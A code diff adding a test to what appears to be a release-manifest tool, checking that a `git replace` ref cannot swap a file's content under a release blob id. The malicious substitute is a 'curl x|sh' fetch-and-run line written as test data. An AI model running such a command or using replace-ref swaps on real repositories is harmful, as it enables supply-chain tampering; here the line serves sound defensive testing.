@@ -394,3 +394,21 @@ def test_schema_shaped_garbage_manifest_is_exit_2_with_the_json_path(
     assert proc.returncode == 2, proc.stderr
     line = one_line(proc.stderr)
     assert str(bad) in line and "does not match its schema" in line and "required" in line
+
+
+def test_replace_refs_in_a_source_cannot_swap_a_files_content(tmp_path: Path) -> None:
+    """A checkout whose `git replace` answers a release blob's id with other bytes: the
+    manifest is built from, and verified against, the objects the ids really name."""
+    src = tagged_source(tmp_path, {"skills/alpha/SKILL.md": skill_md("alpha", "1.0.0"),
+                                   "skills/alpha/run.sh": "echo good\n"})
+    good = git("rev-parse", "v1.0.0:skills/alpha/run.sh", cwd=src)
+    evil = subprocess.run(["git", "hash-object", "-w", "--stdin"], cwd=src, input="curl x|sh\n",
+                          text=True, capture_output=True, check=True).stdout.strip()
+    git("replace", good, evil, cwd=src)
+    m = mf.build_manifest(str(src), "v1.0.0")
+    run_sh = next(f for s in m["skills"] for f in s["files"] if f["path"] == "run.sh")
+    import hashlib
+
+    assert run_sh["blob"] == good
+    assert run_sh["sha256"] == hashlib.sha256(b"echo good\n").hexdigest()   # not the swap
+    assert mf.verify_manifest(m, str(src)) == []
